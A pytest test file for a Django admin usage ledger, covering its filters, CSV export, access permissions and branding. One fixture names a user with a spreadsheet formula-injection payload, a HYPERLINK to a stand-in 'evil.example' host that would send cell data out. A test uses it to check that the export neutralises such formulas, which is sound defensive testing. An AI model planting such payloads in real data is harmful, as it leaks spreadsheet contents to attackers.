"""The usage ledger in the admin: its filters, its CSV export and the admin's frame (title, icon).

The cast: carol (team Acme, key "ci") and dave (team Globex, key "batch")
call through the registry's route `auto`; dave also calls a model that has
no price, and fails once on route `coding`; mallory, in no team, gives
herself and her request names that a spreadsheet would run as formulas.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

import pytest
from asgiref.sync import async_to_sync
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.db import connection
from django.templatetags.static import static
from django.test import AsyncClient, Client, RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from billing.models import ApiKey, Team, UsageRecord
from billing.money import usage_cost
from billing.services import api_key_create
from routing.models import LanguageModel, Provider, Route

pytestmark = pytest.mark.django_db

CHANGELIST = reverse("admin:billing_usagerecord_changelist")
EXPORT = reverse("admin:billing_usagerecord_export")
WHEN = dt.datetime(2026, 11, 30, 23, 59, 58, 123456, tzinfo=dt.UTC)
HEADER = [
    "created_at",
    "request_id",
    "user",
    "team",
    "api_key_prefix",
    "requested",
    "route",
    "model",
    "provider",
    "status",
    "error_kind",
    "input_tokens",
    "output_tokens",
    "cached_input_tokens",
    "cache_write_tokens",
    "reasoning_tokens",
    "tokens_estimated",
    "input_price_per_million",
    "output_price_per_million",
    "cached_input_price_per_million",
    "cache_write_price_per_million",
    "cost_usd",
    "unpriced",
    "latency_ms",
    "ttft_ms",
]


@dataclass
class Cast:
    carol: Any
    dave: Any
    mallory: Any
    acme: Team
    globex: Team
    ci: ApiKey
    batch: ApiKey


@pytest.fixture
def cast() -> Cast:
    users = get_user_model().objects
    carol, dave = users.create_user("carol"), users.create_user("dave")
    mallory = users.create_user('=HYPERLINK("https://evil.example/?"&A1)')
    acme = Team.objects.create(name="Acme", slug="acme")
    globex = Team.objects.create(name="Globex", slug="globex")
    ci, _ = api_key_create(user=carol, name="ci", team=acme)
    batch, _ = api_key_create(user=dave, name="batch", team=globex)
    sim = Provider.objects.create(name="sim", kind=Provider.Kind.SIMULATED)
    LanguageModel.objects.create(
        public_id="sim/quick", provider=sim, upstream_name="quick", context_window=8_000, max_output_tokens=1_000
    )
    Route.objects.create(name="auto")
    Route.objects.create(name="coding")
    return Cast(carol, dave, mallory, acme, globex, ci, batch)


def record(request_id: str, user: Any, **fields: Any) -> UsageRecord:
    """A record of an answered call to sim/quick through `auto`, booked at $1 / $4 per million tokens."""
    prices = {"input_price_per_million": Decimal("1.000000"), "output_price_per_million": Decimal("4.000000")}
    if fields.get("cost_usd", ...) is None:
        prices = {"input_price_per_million": None, "output_price_per_million": None}
    defaults = {
        "created_at": WHEN,
        "requested": "auto",
        "route": "auto",
        "model": "sim/quick",
        "provider": "sim",
        "status": UsageRecord.Status.OK,
        "input_tokens": 1_234,
        "output_tokens": 567,
        "latency_ms": 812,
        "ttft_ms": 95,
        "cost_usd": usage_cost(
            input_tokens=1_234,
            output_tokens=567,
            input_per_million=Decimal("1.000000"),
            output_per_million=Decimal("4.000000"),
        ),
    }
    return UsageRecord.objects.create(request_id=request_id, user=user, **(defaults | prices | fields))


@pytest.fixture
def ledger(cast: Cast) -> Cast:
    record("chatcmpl-carol", cast.carol, team=cast.acme, api_key=cast.ci, tokens_estimated=True)
    record(
        "chatcmpl-dave-failed",
        cast.dave,
        team=cast.globex,
        api_key=cast.batch,
        requested="coding",
        route="coding",
        model="",
        provider="",
        status=UsageRecord.Status.ERROR,
        error_kind="rate_limited",
        input_tokens=0,
        output_tokens=0,
        ttft_ms=None,
        cost_usd=None,
    )
    record(
        "pg-dave-unpriced",
        cast.dave,
        team=cast.globex,
        source=UsageRecord.Source.PLAYGROUND,
        requested="up/mystery",
        route="",
        model="up/mystery",
        provider="up",
        cost_usd=None,
    )
    record("chatcmpl-mallory", cast.mallory, requested="-2+3", created_at=WHEN - dt.timedelta(days=1))
    return cast


def listed(client: Client, query: str) -> list[str]:
    response = client.get(CHANGELIST + query)
    assert response.status_code == 200
    return [row.request_id for row in response.context["cl"].result_list]


def exported(client: Client, query: str = "") -> list[list[str]]:
    response = client.get(EXPORT + query)
    assert response.status_code == 200, response
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="usage-records-')
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def cells(row: str) -> list[list[str]]:
    """A row of the list, as the words each of its cells shows."""
    return [
        re.sub(r"<[^>]+>", " ", cell.replace("<wbr>", "")).split()
        for cell in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.S)
    ]


def test_each_filter_narrows_the_list(admin_client: Client, ledger: Cast) -> None:
    assert set(listed(admin_client, f"?team__id__exact={ledger.acme.pk}")) == {"chatcmpl-carol"}
    assert set(listed(admin_client, f"?user__id__exact={ledger.dave.pk}")) == {
        "chatcmpl-dave-failed",
        "pg-dave-unpriced",
    }
    assert set(listed(admin_client, f"?api_key__id__exact={ledger.batch.pk}")) == {"chatcmpl-dave-failed"}
    assert set(listed(admin_client, "?model=sim/quick")) == {"chatcmpl-carol", "chatcmpl-mallory"}
    assert set(listed(admin_client, "?route=coding")) == {"chatcmpl-dave-failed"}
    assert set(listed(admin_client, "?status=error")) == {"chatcmpl-dave-failed"}
    assert set(listed(admin_client, "?status=ok")) == {"chatcmpl-carol", "pg-dave-unpriced", "chatcmpl-mallory"}
    # Answered at no known price; the failed call, which has no model and no cost, is not "unpriced".
    assert set(listed(admin_client, "?status=unpriced")) == {"pg-dave-unpriced"}
    assert set(listed(admin_client, "?provider=up&source=playground")) == {"pg-dave-unpriced"}
    assert listed(admin_client, f"?user__id__exact={ledger.dave.pk}&status=unpriced") == ["pg-dave-unpriced"]


def test_the_model_route_and_provider_filters_list_the_registry_and_keep_a_value_it_no_longer_has(
    admin_client: Client, ledger: Cast
) -> None:
    def choices(query: str, title: str) -> list[str]:
        page = admin_client.get(CHANGELIST + query)
        spec = next(spec for spec in page.context["cl"].filter_specs if spec.title == title)
        return [value for value, _ in spec.lookup_choices]

    assert choices("", "model") == ["sim/quick"]
    assert choices("", "route") == ["auto", "coding"]
    assert choices("", "provider") == ["sim"]
    assert choices("?model=up/mystery", "model") == ["sim/quick", "up/mystery"]
    assert listed(admin_client, "?model=up/mystery") == ["pg-dave-unpriced"]


def test_the_user_team_and_key_filters_search_instead_of_listing_and_show_the_one_chosen(
    admin_client: Client, ledger: Cast
) -> None:
    page = admin_client.get(f"{CHANGELIST}?status=ok&user__id__exact={ledger.dave.pk}").content.decode()

    assert f'<option value="{ledger.dave.pk}" selected>dave</option>' in page
    assert ">carol</option>" not in page
    assert 'data-model-name="usagerecord" data-field-name="user"' in page
    # Choosing another user keeps the other filters, and replaces the user chosen before.
    forms = re.findall(r'<form method="get" class="autocomplete-filter">(.*?)</form>', page, re.S)
    user_form = next(form for form in forms if 'data-field-name="user"' in form)
    assert re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]+)">', user_form) == [("status", "ok")]
    assert 'data-field-name="team"' in page and 'data-field-name="api_key"' in page
    assert static("js/admin-autocomplete-filter.js") in page
    # What the search box asks: the admin's own autocomplete, here for the users whose name starts with "da".
    found = admin_client.get(
        reverse("admin:autocomplete"),
        {"app_label": "billing", "model_name": "usagerecord", "field_name": "user", "term": "da"},
    )
    assert found.json()["results"] == [{"id": str(ledger.dave.pk), "text": "dave"}]


def test_the_filters_read_no_distinct_values_of_the_ledger(rf: RequestFactory, admin_user: Any, ledger: Cast) -> None:
    """What keeps them cheap on millions of records: their choices come from small tables, with no count each."""
    request = rf.get(CHANGELIST)
    request.user = admin_user

    with CaptureQueriesContext(connection) as queries:
        changelist = admin.site.get_model_admin(UsageRecord).get_changelist_instance(request)

    assert [spec.title for spec in changelist.filter_specs] == [
        "status", "team", "user", "API key", "model", "route", "provider", "source",
    ]  # fmt: skip
    assert not any("DISTINCT" in query["sql"].upper() for query in queries), [q["sql"] for q in queries]
    assert not changelist.add_facets and not changelist.is_facets_optional


def test_the_list_shows_a_call_in_seven_columns_whose_names_may_wrap_at_their_separators(
    admin_client: Client, ledger: Cast
) -> None:
    page = admin_client.get(f"{CHANGELIST}?user__id__exact={ledger.dave.pk}").content.decode()
    rows = re.findall(r"<tr>(.*?)</tr>", page.split("<tbody>")[1], re.S)
    failed = rows[1]

    assert cells(failed) == [
        ["Nov.", "30,", "2026,", "11:59", "p.m.", "chatcmpl-dave-failed"],
        ["dave", "Globex"],
        ["–", "asked", "coding"],
        ["Error", "rate_limited"],
        ["0", "/", "0"],
        ["–"],
        ["812", "ms"],
    ]
    assert '<div class="quiet">rate_<wbr>limited</div>' in failed
    assert "up/<wbr>mystery" in rows[0] and "asked" not in rows[0]  # asked for the model that answered


def test_the_list_links_its_export_with_its_filters(admin_client: Client, ledger: Cast) -> None:
    page = admin_client.get(f"{CHANGELIST}?route=coding&status=error").content.decode()

    assert f'href="{EXPORT}?route=coding&amp;status=error" data-testid="export-csv">Export CSV</a>' in page


def test_the_export_has_the_header_and_every_value_as_booked(admin_client: Client, ledger: Cast) -> None:
    rows = exported(admin_client, f"?user__id__exact={ledger.carol.pk}")

    assert rows == [
        HEADER,
        [
            "2026-11-30T23:59:58.123456+00:00",
            "chatcmpl-carol",
            "carol",
            "acme",
            ledger.ci.prefix,
            "auto",
            "auto",
            "sim/quick",
            "sim",
            "ok",
            "",
            "1234",
            "567",
            "0",
            "0",
            "0",
            "true",
            "1.000000",
            "4.000000",
            "",
            "",
            "0.0035020000",  # (1,234 × $1 + 567 × $4) / 1M, to the 10 places booked
            "false",
            "812",
            "95",
        ],
    ]


def test_the_export_leaves_an_unknown_cost_empty_and_says_it_is_unpriced(admin_client: Client, ledger: Cast) -> None:
    header, *rows = exported(admin_client, f"?user__id__exact={ledger.dave.pk}&o=2")
    by_id = {row[1]: dict(zip(header, row, strict=True)) for row in rows}

    assert list(by_id) == ["chatcmpl-dave-failed", "pg-dave-unpriced"]  # ordered as the list (o=2: by model)
    failed, unpriced = by_id["chatcmpl-dave-failed"], by_id["pg-dave-unpriced"]
    assert (failed["status"], failed["error_kind"], failed["model"]) == ("error", "rate_limited", "")
    assert (failed["cost_usd"], failed["unpriced"], failed["ttft_ms"]) == ("", "false", "")
    assert (unpriced["cost_usd"], unpriced["unpriced"], unpriced["api_key_prefix"]) == ("", "true", "")
    assert (unpriced["input_price_per_million"], unpriced["output_price_per_million"]) == ("", "")


def test_the_export_follows_the_list_s_filters_search_and_dates(admin_client: Client, ledger: Cast) -> None:
    for query in (
        "",
        "?status=unpriced",
        "?team__id__exact=1000",
        "?q=chatcmpl-mallory",
        "?created_at__year=2026&created_at__month=11&created_at__day=30",
    ):
        assert [row[1] for row in exported(admin_client, query)[1:]] == listed(admin_client, query), query


def test_under_asgi_the_export_is_read_and_sent_2000_rows_at_a_time(admin_user: Any, ledger: Cast) -> None:
    """Under ASGI, as the site is served, Django would read a synchronous iterator whole before sending it."""
    UsageRecord.objects.bulk_create(
        UsageRecord(request_id=f"chatcmpl-{n}", created_at=WHEN, requested="auto", status="ok") for n in range(2_500)
    )
    client = AsyncClient()
    client.force_login(admin_user)

    async def export() -> tuple[bool, list[bytes]]:
        response = await client.get(EXPORT)
        return response.is_async, [chunk async for chunk in response.streaming_content]

    is_async, chunks = async_to_sync(export)()

    assert is_async
    assert [chunk.count(b"\r\n") for chunk in chunks] == [1, 2_000, 504]  # the header, then 2,504 rows


def test_the_export_never_hands_a_spreadsheet_a_formula(admin_client: Client, ledger: Cast) -> None:
    _, row = exported(admin_client, f"?user__id__exact={ledger.mallory.pk}")

    assert row[2] == """'=HYPERLINK("https://evil.example/?"&A1)"""
    assert row[5] == "'-2+3"
    assert row[3] == ""  # no team


def test_a_filter_the_list_refuses_is_left_to_the_list_to_explain(admin_client: Client, ledger: Cast) -> None:
    response = admin_client.get(f"{EXPORT}?user__id__exact=nobody")

    assert response.status_code == 302
    assert response["Location"] == f"{CHANGELIST}?user__id__exact=nobody"


def test_only_staff_allowed_to_view_usage_records_may_export(ledger: Cast) -> None:
    client = Client()  # this package's `client` fixture is an OpenAI SDK client
    users = get_user_model().objects
    member = users.create_user("member")
    staff = users.create_user("staff", is_staff=True)
    auditor = users.create_user("auditor", is_staff=True)
    auditor.user_permissions.add(Permission.objects.get(codename="view_usagerecord"))

    assert client.get(EXPORT).status_code == 302
    client.force_login(member)
    refused = client.get(EXPORT)
    client.force_login(staff)
    forbidden = client.get(EXPORT)
    client.force_login(auditor)

    assert (refused.status_code, refused["Location"]) == (302, f"/admin/login/?next={EXPORT}")
    assert forbidden.status_code == 403
    assert len(exported(client)) == 1 + 4


def test_the_admin_is_titled_switchyard(admin_client: Client) -> None:
    page = admin_client.get("/admin/").content.decode()

    assert "<title>Administration | Switchyard admin</title>" in page
    assert '<a href="/admin/">Switchyard</a>' in page
    assert "Django administration" not in page


def test_the_icon_is_linked_by_the_admin_and_the_site_and_served_at_the_root(admin_client: Client) -> None:
    for page in (admin_client.get("/admin/"), admin_client.get("/")):
        assert f'<link rel="icon" href="{static("favicon.ico")}" sizes="32x32">' in page.content.decode()
        assert f'<link rel="icon" href="{static("favicon.svg")}" type="image/svg+xml">' in page.content.decode()

    icon = admin_client.get("/favicon.ico", follow=True)
    svg = admin_client.get(static("favicon.svg"))

    assert icon.redirect_chain == [(static("favicon.ico"), 302)]
    assert (icon.status_code, icon["Content-Type"]) == (200, "image/x-icon")
    assert (svg.status_code, svg["Content-Type"]) == (200, "image/svg+xml")
